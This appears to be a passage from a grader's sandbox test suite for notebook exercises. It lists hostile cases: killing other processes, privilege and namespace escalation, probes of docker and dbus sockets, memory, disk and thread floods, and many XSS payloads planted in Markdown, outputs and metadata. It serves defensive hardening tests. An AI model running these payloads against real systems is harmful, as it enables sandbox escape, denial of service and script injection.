    "a pool of processes",
    """
    import multiprocessing, os, posix
    os.fork = posix.fork
    with multiprocessing.get_context("fork").Pool(50) as pool:
        pool.map(abs, range(1000))
""",
    status=None,
)
cell(
    "processes",
    "signals to everybody",
    """
    import os, signal
    for target in (os.getppid(), 1, -1, 0, *range(2, 400)):
        if target != os.getpid():
            for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(target, number)
                except OSError:
                    pass
""",
    status=None,
)
cell(
    "processes",
    "signals ignored",
    """
    import signal
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
    status="timed_out",
)
# The first process of a namespace, as a warm worker is, does not stop itself.
cell("processes", "stops itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", status=None)
cell(
    "processes",
    "more rights",
    """
    import ctypes, os
    libc = ctypes.CDLL(None)
    for action in (lambda: os.setuid(0), lambda: os.nice(-20), lambda: libc.unshare(0x10000000), lambda: libc.mount(b"/", b"/tmp", b"", 4096, 0),
                   lambda: os.chroot("."), lambda: libc.prctl(38, 0, 0, 0, 0), lambda: os.sched_setaffinity(os.getppid(), {0})):
        try:
            action()
        except OSError:
            pass
    open("<OUTSIDE>/rights", "w").write("<MARK>")
""",
)
cell(
    "processes",
    "a program from memory",
    """
    import os
    descriptor = os.memfd_create("<MARK>")
    os.write(descriptor, b"#!/bin/sh\\necho <MARK> > <OUTSIDE>/memory\\n")
    os.execve(f"/proc/self/fd/{descriptor}", ["<MARK>"], {})
""",
    status=None,
)

# ----------------------------------------------------------------------------- network

cell(
    "network",
    "a connection",
    """
    import socket
    socket.create_connection(("127.0.0.1", <PORT>), 2).sendall(b"<MARK>")
""",
)
cell(
    "network",
    "a packet",
    """
    import socket
    for address in (("127.0.0.1", <PORT>), ("255.255.255.255", <PORT>)):
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"<MARK>", address)
""",
)
cell(
    "network",
    "a service of the machine",
    """
    import socket
    for path in ("<PLACE>/service", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
        try:
            socket.socket(socket.AF_UNIX).connect(path)
        except OSError:
            pass
""",
)
cell(
    "network",
    "a server",
    """
    import socket
    server = socket.create_server(("0.0.0.0", 0))
    server.settimeout(99)
    server.accept()
""",
    status=None,
)
cell(
    "network",
    "a page",
    """
    import urllib.request
    urllib.request.urlopen("http://127.0.0.1:<PORT>/<MARK>", timeout=2)
""",
)
# Where starting pip is slow, the time limit ends it.
cell(
    "network",
    "a package",
    """
    import subprocess, sys
    subprocess.run([sys.executable, "-m", "pip", "install", "--retries", "0", "--target", "<OUTSIDE>", "six"])
""",
    status=None,
)

cell(
    "network",
    "sockets of every kind, to the machine below among them",
    """
    import socket
    opened = []
    for family in range(64):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            try:
                opened.append(socket.socket(family, kind))
            except OSError:
                pass
    if opened:
        def initialize_parameters_zeros(layers_dims):
            sizes = [*zip(layers_dims, layers_dims[1:])]
            weights = {f"W{n}": np.zeros((rows, columns)) for n, (columns, rows) in enumerate(sizes, 1)}
            return weights | {f"b{n}": np.zeros((rows, 1)) for n, (_, rows) in enumerate(sizes, 1)}
""",
)

# ------------------------------------------------------------------------------ floods

cell("floods", "memory", "lots = []\nwhile True:\n    lots.append(bytearray(1 << 28))", status=None)
body(
    "floods",
    "an answer larger than memory",
    "import numpy as np\nreturn {'W1': np.broadcast_to(np.float64(0), (10**6, 10**6))}",
    status=None,
)
body(
    "floods",
    "an answer of a gigabyte",
    "import numpy as np\nreturn {'W1': np.zeros((2**27,), np.uint8), 'b1': 'x' * 2**27}",
    status=None,
)
cell(
    "floods",
    "a disk",
    """
    for number in range(10**6):
        with open(f"file-{number}", "wb") as file:
            for _ in range(100):
                file.write(bytes(1 << 20))
""",
)
cell(
    "floods",
    "a million empty files",
    """
    import os
    for number in range(10**6):
        os.mkdir(f"folder-{number}")
        open(f"folder-{number}/file", "w").close()
""",
    status=None,
)
cell(
    "floods",
    "printed text",
    "import sys\nwhile True:\n    print('x' * 10**6)\n    print('y' * 10**6, file=sys.stderr)",
    status=None,
)
body("floods", "printed text in a call", "for _ in range(300):\n    print('x' * 10**6)\nreturn {}", status=None)
body("floods", "a list in itself", "loop = []\nloop.append(loop)\nreturn loop")
body(
    "floods",
    "an answer nested without end",
    "deep = []\nfor _ in range(10**6):\n    deep = [deep]\nreturn deep",
    status=None,
)
body("floods", "a million keys", "return dict.fromkeys(range(10**6))", status=None)
body("floods", "an error with a long text", "raise ValueError('x' * 10**8)")
body(
    "floods",
    "an error whose text never ends",
    """
    class Slow(Exception):
        def __str__(self):
            while True: pass
    raise Slow
""",
    status="timed_out",
)
cell("floods", "a regular expression that never ends", "import re\nre.match(r'(a+)+b', 'a' * 60)", status="timed_out")
cell("floods", "a number that never ends", "10 ** 10 ** 10", status=None)
body("floods", "as slow as it may be", "import time\ntime.sleep(0.9)\nreturn {}")
body("floods", "recursion", "return initialize_parameters_zeros(layers_dims)")
cell(
    "floods",
    "recursion that ends the process",
    "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
    status=None,
)
body(
    "floods",
    "shared memory that no process is held to",
    """
    import ctypes
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    size = ctypes.c_size_t(200 << 20)
    for _ in range(20):
        address = libc.shmat(libc.shmget(0, size, 0o1600), None, 0)
        assert address not in (None, 2**64 - 1)
        ctypes.memset(ctypes.c_void_p(address), 1, size)
        libc.shmdt(ctypes.c_void_p(address))
""",
    status=None,
)
body(
    "floods",
    "memory in files without a name",
    """
    import os
    kept = [os.memfd_create("mine") for _ in range(50)]
    while True:
        for file in kept:
            os.write(file, bytes(1 << 20))
""",
    status=None,
)
cell(
    "floods",
    "ten thousand threads",
    """
    import threading
    threading.stack_size(1 << 15)
    for _ in range(10_000):
        threading.Thread(target=threading.Event().wait, daemon=True).start()
""",
    status=None,
)
cell(
    "floods",
    "files that are removed and kept",
    """
    import mmap, os
    kept = []
    while True:
        file = os.open("file", os.O_CREAT | os.O_RDWR)
        os.write(file, bytes(16 << 20))
        kept.append(mmap.mmap(file, 4096))
        os.close(file)
        os.unlink("file")
""",
    status=None,
)
body(
    "floods",
    "pages in pipes",
    """
    import ctypes, fcntl, mmap, os
    libc, pipes = ctypes.CDLL(None), [os.pipe() for _ in range(10)]
    for _, end in pipes:
        fcntl.fcntl(end, fcntl.F_SETPIPE_SZ, 1 << 20)
    while True:
        for _, end in pipes:
            pages = mmap.mmap(-1, 2 << 20)
            pages[:] = bytes(2 << 20)
            vector = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.c_char.from_buffer(pages)), 1)
            if libc.vmsplice(end, vector, 1, 2) < 0:
                raise OSError("refused")
""",
    status=None,
)
cell("floods", "a broken pointer", "import ctypes\nctypes.string_at(0)", status="crashed")
cell("floods", "a parser's nightmare", "(" * 100_000 + ")" * 100_000, status=None)
cell("floods", "a compiler's nightmare", "x = " + "-" * 500_000 + "1", status=None)
cell("floods", "a long operation tree", "x = " + "+".join(["1"] * 100_000), status=None)


@files("floods", "a file of 60 MB", status="malformed")
def _(folder):
    save(blank(), folder)
    with open(folder / NAME, "ab") as file:
        file.truncate(60 << 20)


@files("floods", "a file of a hundred thousand levels", status="malformed")
def _(folder):
    (folder / NAME).write_text('{"cells":' + "[" * 100_000)


@edit("floods", "twenty thousand cells", status="malformed")
def _(notebook):
    notebook.cells += [code("pass", id=f"cell-{number}") for number in range(20_000)]


@edit("floods", "an output of 30 MB", score=30, solved=EXERCISES)
def _(notebook):
    notebook.cells[0].outputs = [nbformat.v4.new_output("stream", text="x" * (30 << 20))]


@edit("floods", "Markdown that is slow to read", score=30, solved=EXERCISES)
def _(notebook):
    notebook.cells += [
        nbformat.v4.new_markdown_cell(sign * 300_000, id=f"slow-{number}")
        for number, sign in enumerate(["[", "<b>", "*a ", "> "])
    ]


# -------------------------------------------------------- what a page would run in a browser

RUN = "<script>document.title='MARK'</script><img src=x onerror=\"document.title='MARK'\">".replace("MARK", MARK)


@edit("pages", "HTML and scripts in Markdown", score=30, solved=EXERCISES)
def _(notebook):
    texts = [
        RUN,
        f"[link](javascript:document.title='{MARK}')",
        f"<svg onload=\"document.title='{MARK}'\">",
        f'<iframe srcdoc="{RUN}"></iframe>',
        f"<a href='data:text/html,{RUN}'>a</a>",
        f"<div style='background:url(javascript:{MARK})'>",
        f"<math><mtext></mtext><script>{MARK}</script></math>",
        f"$\\href{{javascript:document.title='{MARK}'}}{{click}}$",
        f"![x](x \"' onerror=document.title='{MARK}'\")",
        f"```\n</pre>{RUN}\n```",
        f"<style>@import 'http://127.0.0.1/{MARK}'</style>",
        f"<form action='javascript:{MARK}'><button>x</button></form>",
        f"<details open ontoggle={MARK}>",
    ]
    notebook.cells += [nbformat.v4.new_markdown_cell(text, id=f"html-{number}") for number, text in enumerate(texts)]


@edit("pages", "HTML and scripts in outputs", score=30, solved=EXERCISES)
def _(notebook):
    kinds = [
        "text/html",
        "application/javascript",
        "image/svg+xml",
        "text/markdown",
        "text/latex",
        "application/pdf",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.plotly.v1+json",
        "image/png",
        "image/jpeg",
        "text/plain",
    ]
    notebook.cells[0].outputs = [
        nbformat.v4.new_output("display_data", data={kind: RUN}, metadata={kind: {"alt": RUN}}) for kind in kinds
    ]
    notebook.cells[0].outputs += [
        nbformat.v4.new_output("stream", text=f"</pre>{RUN}\x1b]8;;javascript:{MARK}\x07"),
        nbformat.v4.new_output("error", ename=RUN, evalue=RUN, traceback=[RUN]),
        nbformat.v4.new_output(
            "display_data",
            data={
                "text/html": f'<img src="data:image/png;base64,iVBORw0KGgo=" onerror="{MARK}" alt="\' onload={MARK}">'
            },
        ),
    ]


@edit("pages", "HTML and scripts in metadata and attachments", score=30, solved=EXERCISES)
def _(notebook):
    notebook.metadata.update(
        title=RUN, authors=[{"name": RUN}], widgets={RUN: RUN}, language_info={"name": RUN, "pygments_lexer": RUN}
    )
    notebook.cells += [
        nbformat.v4.new_raw_cell(RUN, id="raw", metadata={"raw_mimetype": "text/html"}),
        nbformat.v4.new_markdown_cell(
            "![a](attachment:a.png)", id="attached", attachments={"a.png": {"image/png": f'"{RUN}'}}
        ),
        {
            "cell_type": "code",
            "id": RUN,
            "source": RUN,
            "metadata": {"tags": [RUN]},
            "outputs": [],
            "execution_count": RUN,
        },
    ]


body("pages", "HTML and scripts in the message of an error", f"raise ValueError({RUN!r})")
body(
    "pages",
    "HTML and scripts in the keys and the values",
    f"return {{{RUN!r}: {RUN!r}, 'W1': __import__('numpy').array([{RUN!r}])}}",
)
cell("pages", "HTML and scripts in code", f"# </pre></div>{RUN}\nx = {RUN!r}", score=30, solved=EXERCISES)

# The exercises themselves, once: what an attack is measured against.
ATTACKS.append(edited("control", "nothing written", 0, lambda notebook: None))
ATTACKS.append(edited("control", "everything right", 30, lambda notebook: None, EXERCISES))
assert set(AS_TAUGHT) == set(EXERCISES)
